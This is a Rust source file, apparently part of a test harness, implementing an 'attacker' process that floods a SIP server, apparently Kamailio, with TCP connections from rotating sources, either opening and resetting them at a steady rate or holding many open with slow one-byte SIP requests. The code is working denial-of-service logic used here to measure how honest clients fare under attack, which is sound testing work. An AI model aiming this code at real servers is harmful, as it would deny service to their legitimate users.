// SPDX-License-Identifier: GPL-2.0-or-later

//! The attacker: opens connections from given sources, either one after the other at a
//! steady rate, or all at once and keeps them. It goes on until it gets [`Order::Stop`],
//! so every honest source is measured under attack.

use std::collections::VecDeque;
use std::io::{self, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::os::fd::{AsFd, AsRawFd, OwnedFd};
use std::thread::sleep;
use std::time::{Duration, Instant};

use nix::errno::Errno;
use nix::poll::{PollFd, PollFlags, ppoll};
use nix::sys::socket::{MsgFlags, recv};
use serde::{Deserialize, Serialize};

use crate::Result;
use crate::process::{Role, answer, next_order};
use crate::socket::{connecting, to_be_reset};

pub(crate) const ROLE: Role = Role {
    option: "attacker",
    run,
};

/// The maximum delay of a step in the schedule. Steps that are later are skipped, so a
/// standstill of this process is not followed by a burst, which would be another attack.
const LATEST: Duration = Duration::from_millis(20);

/// Connections to keep that are opened at once: well below the server's backlog of 1,024.
const BATCH: usize = 200;

/// Connections that are closed at once. TCP main hands each closed connection to one of
/// Kamailio's workers. It closes any connection that it cannot hand over within two
/// seconds (`SEND_FD_QUEUE_TIMEOUT`), even one of an honest source.
const LEAVE_AT_ONCE: usize = 80;

/// The maximum time for a server to admit or reject a connection.
const MAX_PATIENCE: Duration = Duration::from_secs(10);

/// How often a connection that stays sends a byte.
const BYTE_PERIOD: Duration = Duration::from_secs(10);

/// The bytes that it sends one by one. It repeats the last byte without end.
const SLOW_REQUEST: &[u8] = b"OPTIONS sip:anybody@localhost SIP/2.0\r\nSubject: a";

#[derive(Debug, Serialize, Deserialize)]
pub(crate) struct Attack {
    pub(crate) to: SocketAddr,
    /// The sources take turns.
    pub(crate) sources: Vec<IpAddr>,
    pub(crate) manner: Manner,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub(crate) enum Manner {
    /// Open connections at a steady rate, whatever the server does, and close each
    /// after the time `life`.
    Pass { per_second: u32, life: Duration },
    /// Each source opens `each` connections, keeps those that are admitted and sends a
    /// byte on them every 10 seconds.
    Sit { each: usize },
}

/// `Begin` is answered by [`Begun`] when the attack has begun, and `Stop` by [`Outcome`]
/// when it has stopped.
#[derive(Debug, Serialize, Deserialize)]
pub(crate) enum Order {
    Begin(Attack),
    Stop,
}

#[derive(Debug, Serialize, Deserialize)]
pub(crate) struct Begun;

#[derive(Clone, Copy, Debug, Default, Serialize, Deserialize)]
pub(crate) struct Outcome {
    /// Connections opened, including those that were never established.
    pub(crate) opened: usize,
    /// Connections that the server had closed before the attacker did.
    pub(crate) closed_by_server: usize,
}

/// Executes the orders on standard input until it ends.
fn run(_: &[String]) -> Result<()> {
    while let Some(order) = next_order()? {
        let Order::Begin(attack) = order else {
            return Err("no attack to stop".into());
        };
        let outcome = match attack.manner {
            Manner::Pass { per_second, life } => pass(&attack, per_second, life)?,
            Manner::Sit { each } => sit(&attack, each)?,
        };
        // Read the order that has ended the attack.
        next_order::<Order>()?;
        answer(&outcome)?;
    }
    Ok(())
}

/// Waits until there is an order or `wake` is reached. Returns whether there is an order.
/// It polls the descriptor, which suffices: the buffer of standard input is empty,
/// because an order comes only after the previous one has been answered.
fn ordered_before(wake: Instant) -> io::Result<bool> {
    let stdin = io::stdin();
    let mut ready = [PollFd::new(stdin.as_fd(), PollFlags::POLLIN)];
    let timeout = wake.saturating_duration_since(Instant::now());
    Ok(ppoll(&mut ready, Some(timeout.into()), None)? > 0)
}

fn pass(attack: &Attack, per_second: u32, life: Duration) -> io::Result<Outcome> {
    let period = Duration::from_secs(1) / per_second;
    let mut outcome = Outcome::default();
    let mut open: VecDeque<(OwnedFd, Instant)> = VecDeque::new();
    answer(&Begun)?;
    let mut due = Instant::now();
    let mut goes_on = true;
    while goes_on || !open.is_empty() {
        if goes_on {
            goes_on = !ordered_before(due)?;
        } else {
            sleep(LATEST);
        }
        let now = Instant::now();
        due = due.max(now - LATEST);
        let over = open.partition_point(|(_, since)| *since + life <= now);
        for (socket, _) in open.drain(..over) {
            outcome.closed_by_server += usize::from(is_closed(&socket)?);
        }
        if goes_on && due <= now {
            let from = attack.sources[outcome.opened % attack.sources.len()];
            let socket = connecting(from, attack.to)?;
            to_be_reset(&socket)?;
            open.push_back((socket, now));
            outcome.opened += 1;
            due += period;
        }
    }
    Ok(outcome)
}

/// Returns whether the server has closed the connection. The server never sends anything
/// on it, because [`Manner::Pass`] sends no request.
fn is_closed(socket: &OwnedFd) -> io::Result<bool> {
    match recv(socket.as_raw_fd(), &mut [0], MsgFlags::MSG_DONTWAIT) {
        Ok(0) | Err(Errno::ECONNRESET) => Ok(true),
        // ENOTCONN: it is not connected yet.
        Err(Errno::EAGAIN | Errno::ENOTCONN) => Ok(false),
        Ok(_) => Err(io::Error::other("the server sent data without a request")),
        Err(error) => Err(error.into()),
    }
}

fn sit(attack: &Attack, each: usize) -> io::Result<Outcome> {
    let sources = &attack.sources;
    let mut seats: Vec<TcpStream> = Vec::new();
    let mut outcome = Outcome::default();
    while outcome.opened < each * sources.len() {
        let count = BATCH.min(each * sources.len() - outcome.opened);
        let batch = (outcome.opened..outcome.opened + count)
            .map(|nth| connecting(sources[nth % sources.len()], attack.to))
            .collect::<io::Result<Vec<OwnedFd>>>()?;
        outcome.opened += count;
        for socket in batch {
            match admitted(socket)? {
                Some(seat) => seats.push(seat),
                None => outcome.closed_by_server += 1,
            }
        }
    }
    answer(&Begun)?;

    let period = BYTE_PERIOD
        .checked_div(seats.len() as u32)
        .unwrap_or(BYTE_PERIOD);
    let mut due = Instant::now();
    let mut sent = 0;
    while !ordered_before(due)? {
        due = (due + period).max(Instant::now() - LATEST);
        if seats.is_empty() {
            continue;
        }
        let byte = SLOW_REQUEST[(sent / seats.len()).min(SLOW_REQUEST.len() - 1)];
        let mut seat = &seats[sent % seats.len()];
        seat.write_all(&[byte]).map_err(|error| {
            io::Error::other(format!("the server closed an admitted connection: {error}"))
        })?;
        sent += 1;
    }
    while !seats.is_empty() {
        seats.truncate(seats.len().saturating_sub(LEAVE_AT_ONCE));
        sleep(LATEST);
    }
    Ok(outcome)
}

/// Waits until the server admits or rejects a connection: it answers a keep-alive
/// (RFC 5626, 3.5.1), or closes. Returns the connection if it was admitted.
fn admitted(socket: OwnedFd) -> io::Result<Option<TcpStream>> {
    let mut stream = TcpStream::from(socket);
    let mut connected = [PollFd::new(stream.as_fd(), PollFlags::POLLOUT)];
    if ppoll(&mut connected, Some(MAX_PATIENCE.into()), None)? == 0 {
        return Err(io::Error::other("the server does not accept a connection"));
    }
    stream.set_nonblocking(false)?;
    stream.set_read_timeout(Some(MAX_PATIENCE))?;
    let mut pong = [0; 2];
    let answered = stream
        .write_all(b"\r\n\r\n")
        .and_then(|()| stream.read_exact(&mut pong));
    match answered {
        Ok(()) => Ok(Some(stream)),
        Err(error) => match error.kind() {
            io::ErrorKind::UnexpectedEof
            | io::ErrorKind::ConnectionReset
            | io::ErrorKind::BrokenPipe => Ok(None),
            _ => Err(error),
        },
    }
}
